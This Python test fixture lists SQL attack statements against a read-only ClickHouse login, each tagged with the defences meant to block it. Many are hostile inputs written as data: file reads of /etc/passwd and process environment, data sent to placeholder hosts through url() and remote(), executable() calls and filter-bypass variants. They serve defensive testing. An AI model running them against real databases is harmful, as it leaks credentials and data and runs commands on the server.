"""What someone with the read-only login might try; `{...}` stand for a file, a folder and a host that watch.

`held_by` names every defence that alone is enough, so that a test can take away all others:

- class: the engine's classifier lets one statement pass, and only one that reads
- names: functions, table functions and settings named in the statement's tree (`analyst.toml`)
- role: the engine's own grants
- readonly: the engine's setting of that name
- cage: the confined process
"""

from dataclasses import dataclass

NAMES_ROLE_READONLY = ("names", "role", "readonly")
ALL_WRITING = ("class", "role", "readonly")


@dataclass(frozen=True, slots=True)
class Attack:
    """A statement, and the defences that each hold it alone."""

    statement: str
    held_by: tuple[str, ...]


def _all(held_by: tuple[str, ...], *statements: str) -> list[Attack]:
    return [Attack(statement, held_by) for statement in statements]


WRITING = _all(
    ALL_WRITING,
    "INSERT INTO d.t VALUES (666)",
    "INSERT INTO d.t SELECT 666",
    "CREATE TABLE d.mine (a Int32) ENGINE = Memory",
    "CREATE TEMPORARY TABLE mine (a Int32)",
    "CREATE VIEW d.mine AS SELECT 1",
    "CREATE MATERIALIZED VIEW d.mine ENGINE = Memory AS SELECT a FROM d.t",
    "CREATE DATABASE mine",
    "CREATE FUNCTION mine AS x -> x",
    "CREATE USER mine",
    "CREATE ROLE mine",
    "GRANT ALL ON *.* TO analyst",
    "DROP TABLE d.t",
    "DROP DATABASE d",
    "TRUNCATE TABLE d.t",
    "ALTER TABLE d.t DELETE WHERE 1",
    "ALTER TABLE d.t UPDATE a = 0 WHERE 1",
    "ALTER TABLE d.t ADD COLUMN b Int32",
    "ALTER TABLE d.t DROP PARTITION tuple()",
    "DELETE FROM d.t WHERE 1",
    "OPTIMIZE TABLE d.t FINAL",
    "RENAME TABLE d.t TO d.mine",
    "EXCHANGE TABLES d.t AND d.u",
    "DETACH TABLE d.t",
    "ATTACH TABLE d.mine",
    "BACKUP DATABASE d TO Disk('default', 'mine')",
)

CONTROL = [
    *_all(("class", "role"), "SYSTEM FLUSH LOGS", "SYSTEM DROP MARK CACHE"),
    *_all(("class",), "SYSTEM STOP MERGES"),
    # the engine lets a user stop the queries of his own name, and every handle has the same name
    *_all(("class",), "KILL QUERY WHERE 1", "SET ROLE writer", "SET ROLE DEFAULT", "USE system"),
    *_all(("class", "readonly"), "SET readonly = 0", "SET max_execution_time = 7"),
    *_all(("class",), "EXECUTE AS default SELECT 1", "BEGIN TRANSACTION"),
    *_all(("class",), "SELECT 1; SELECT 2", "SELECT 1; DROP TABLE d.t", "SELECT 1 PARALLEL WITH SELECT 2"),
    *_all(
        ("names", "readonly"),
        "SELECT 1 SETTINGS readonly = 0",
        "SELECT 1 SETTINGS max_execution_time = 7",
        "SELECT a FROM d.t UNION ALL SELECT 1 SETTINGS max_memory_usage = 7",
    ),
    *_all(("names",), "SELECT * FROM (SELECT 1 SETTINGS max_execution_time = 7)"),
]

FILES = [
    *_all(
        ("names", "cage"),
        "SELECT file('{file}')",
        "SELECT `file`('{file}')",
        "SELECT \"file\"('{file}')",
        "SELECT file /* */ ('{file}')",
        "SELECT concat('', file('{file}'))",
        "SELECT arrayMap(x -> file(x), ['{file}'])",
        "SELECT arrayMap(file, ['{file}'])",
        "SELECT * APPLY(file) FROM (SELECT '{file}')",
        "SELECT * APPLY file FROM (SELECT '{file}')",
        "SELECT * APPLY(x -> file(x)) FROM (SELECT '{file}')",
        "SELECT COLUMNS('x') APPLY file FROM (SELECT '{file}' AS x)",
        "WITH (x -> file(x)) AS f SELECT f('{file}')",
        "WITH (SELECT file('{file}')) AS leaked SELECT leaked",
        "SELECT throwIf(1, file('{file}'))",
        "SELECT a FROM d.t WHERE a = length(file('{file}'))",
        "SELECT a FROM d.t ORDER BY file('{file}')",
        "SELECT a FROM d.t LIMIT length(file('{file}'))",
        "SELECT 1 FORMAT JSON UNION ALL SELECT file('{file}')",
        "SELECT * FROM view(SELECT file('{file}'))",
        "SHOW TABLES WHERE throwIf(1, file('{file}'))",
        "SHOW COLUMNS FROM d.t WHERE throwIf(1, file('{file}'))",
        "SHOW INDEX FROM d.t WHERE throwIf(1, file('{file}'))",
        "DESCRIBE TABLE (SELECT CAST(1, file('{file}')))",
        "EXPLAIN SELECT file('{file}')",
        "EXPLAIN QUERY TREE SELECT file('{file}')",
        "EXPLAIN SYNTAX run_query_tree_passes = 1 SELECT file('{file}')",
        "EXPLAIN actions = 1 SELECT file('{file}')",
        "SELECT file('/proc/self/environ')",
        "SELECT file('/etc/passwd')",
        "SELECT file('{folder}/../writer.password')",
    ),
    # a stream that the process already has open is out of Landlock's sight
    *_all(("names",), "SELECT file('/dev/stdin')", "SELECT file('/dev/fd/0')"),
    *_all(NAMES_ROLE_READONLY, "SELECT * FROM file('{folder}/*', 'LineAsString')"),
    *_all(
        (*NAMES_ROLE_READONLY, "cage"),
        "SELECT * FROM file('{file}', 'LineAsString')",
        "SELECT 'x' IN (SELECT * FROM file('{file}', 'LineAsString'))",
    ),
    *_all(("names",), "SELECT 'x' IN file('{file}', 'LineAsString')"),
    *_all(("names", "role", "readonly"), "SELECT * FROM filesystem('{folder}')"),
    *_all(
        ("names", "role", "cage"),
        "DESCRIBE TABLE file('{file}', 'CSVWithNames')",
        "DESC file('{file}')",
    ),
    *_all(
        ("role", "readonly", "cage"),
        "SELECT * FROM '{file}'",
        "SELECT * FROM `{file}`",
        'SELECT * FROM "{file}"',
        "SELECT * FROM default.`{file}`",
        "SELECT 1 IN `{file}`",
    ),
    *_all(("names",), "EXISTS TABLE `{file}`", "SHOW CREATE TABLE `{file}`"),
    *_all((*NAMES_ROLE_READONLY, "cage"), "SELECT * FROM sqlite('{file}', 't')"),
    *_all(
        ("class", "cage"),
        "SELECT 1 INTO OUTFILE '{new}'",
        "SELECT 1 INTO OUTFILE '{new}' AND STDOUT",
        "SELECT a FROM d.t INTO OUTFILE '{new}' FORMAT CSV",
        "(SELECT 1) INTO OUTFILE '{new}'",
        "EXPLAIN SELECT 1 INTO OUTFILE '{new}'",
        "SHOW TABLES INTO OUTFILE '{new}'",
        "DESCRIBE TABLE d.t INTO OUTFILE '{new}'",
    ),
    *_all(("class", "role", "readonly", "cage"), "INSERT INTO FUNCTION file('{new}', 'CSV') SELECT 1"),
    *_all(("class", "role", "readonly"), "BACKUP DATABASE d TO File('{new}')"),
]

HOSTS = [
    *_all(
        (*NAMES_ROLE_READONLY, "cage"),
        "SELECT * FROM url('http://{host}/', 'LineAsString')",
        "SELECT * FROM url('http://{host}/', 'TSV', 'a String')",
        "SELECT * FROM remote('{host}', 'system.one')",
        "SELECT * FROM remoteSecure('{host}', 'system.one')",
        "SELECT * FROM s3('http://{host}/bucket/x', 'TSV', 'a String')",
        "SELECT * FROM mysql('{host}', 'd', 't', 'u', 'p')",
        "SELECT * FROM postgresql('{host}', 'd', 't', 'u', 'p')",
        "SELECT * FROM redis('{host}', 'k', 'k String, v String')",
        "SELECT * FROM view(SELECT * FROM url('http://{host}/', 'LineAsString'))",
        "SELECT (SELECT * FROM url('http://{host}/', 'LineAsString'))",
    ),
    *_all(NAMES_ROLE_READONLY, "SELECT * FROM cluster('c', 'system.one')", "SELECT * FROM remote('127.0.0.1', 'd.t')"),
    *_all(("names", "role", "cage"), "DESCRIBE TABLE url('http://{host}/')"),
    *_all(("names", "cage"), "EXPLAIN TABLE OVERRIDE mysql('{host}', 'd', 't', 'u', 'p') COLUMNS (x Int32)"),
    *_all(
        ("class", "role", "readonly", "cage"), "INSERT INTO FUNCTION url('http://{host}/', 'CSV', 'a Int32') SELECT 1"
    ),
    *_all(("names",), "SELECT aiGenerate('say something')"),
]

PROCESS = [
    *_all(
        ("names",),
        "SELECT * FROM Python(secret)",
        "SELECT * FROM python(secret)",
        "SELECT * FROM `Python`(secret)",
        "SELECT 1 IN (SELECT 1 FROM Python(secret))",
    ),
    *_all((*NAMES_ROLE_READONLY, "cage"), "SELECT * FROM executable('id', 'TSV', 'x String')"),
    *_all(("names",), "SELECT * FROM eval('SELECT 1')", "SELECT * FROM viewExplain('EXPLAIN', '', (SELECT 1))"),
    *_all(("names",), "SELECT * FROM system.stack_trace", "SELECT * FROM merge('system', '^stack_trace$')"),
    *_all(("role",), "SELECT addressToSymbol(1)"),
    *_all(("names",), "SELECT logTrace('x')"),
]

ATTACKS = [*WRITING, *CONTROL, *FILES, *HOSTS, *PROCESS]

# What the login is for; `d.v` is a view, `d.u` has a column called file, `d.k` is a dictionary over d.u.
WANTED = (
    "SELECT 1",
    "SELECT a, count() FROM d.t GROUP BY a ORDER BY a LIMIT 10",
    "SELECT * FROM d.v",
    "WITH x AS (SELECT a FROM d.t) SELECT t.a FROM d.t AS t JOIN x ON t.a = x.a",
    "SELECT sum(a) OVER (ORDER BY a) FROM d.t",
    "SELECT arrayMap(x -> x + 1, [1]), quantile(0.5)(a) FROM d.t",
    "SELECT number FROM numbers(3) UNION ALL SELECT 1",
    "SELECT 1 EXCEPT SELECT 2",
    "(SELECT 1)",
    "FROM d.t SELECT a",
    "SELECT u.file FROM d.u AS u",
    "SELECT dictGet('d.k', 'v', 1)",
    "SELECT a FROM d.t WHERE a IN (SELECT a FROM d.v)",
    "SELECT 'file(''/etc/passwd'')', 'INTO OUTFILE', 'url(1)'",
    "SELECT 1 -- ; DROP TABLE d.t",
    "SELECT 1;",
    "SELECT name, value, readonly FROM system.settings LIMIT 1",
    "SELECT name FROM system.tables WHERE database = 'd'",
    "SHOW TABLES FROM d",
    "SHOW DATABASES",
    "SHOW COLUMNS FROM d.t",
    "SHOW CREATE TABLE d.t",
    "SHOW CREATE VIEW d.v",
    "SHOW SETTINGS LIKE 'max_threads'",
    "SHOW FUNCTIONS LIKE 'plus'",
    "DESCRIBE TABLE d.t",
    "DESC d.t",
    "EXISTS TABLE d.t",
    "EXPLAIN SELECT a FROM d.t",
    "EXPLAIN AST SELECT 1",
    "EXPLAIN PIPELINE SELECT a FROM d.t",
)
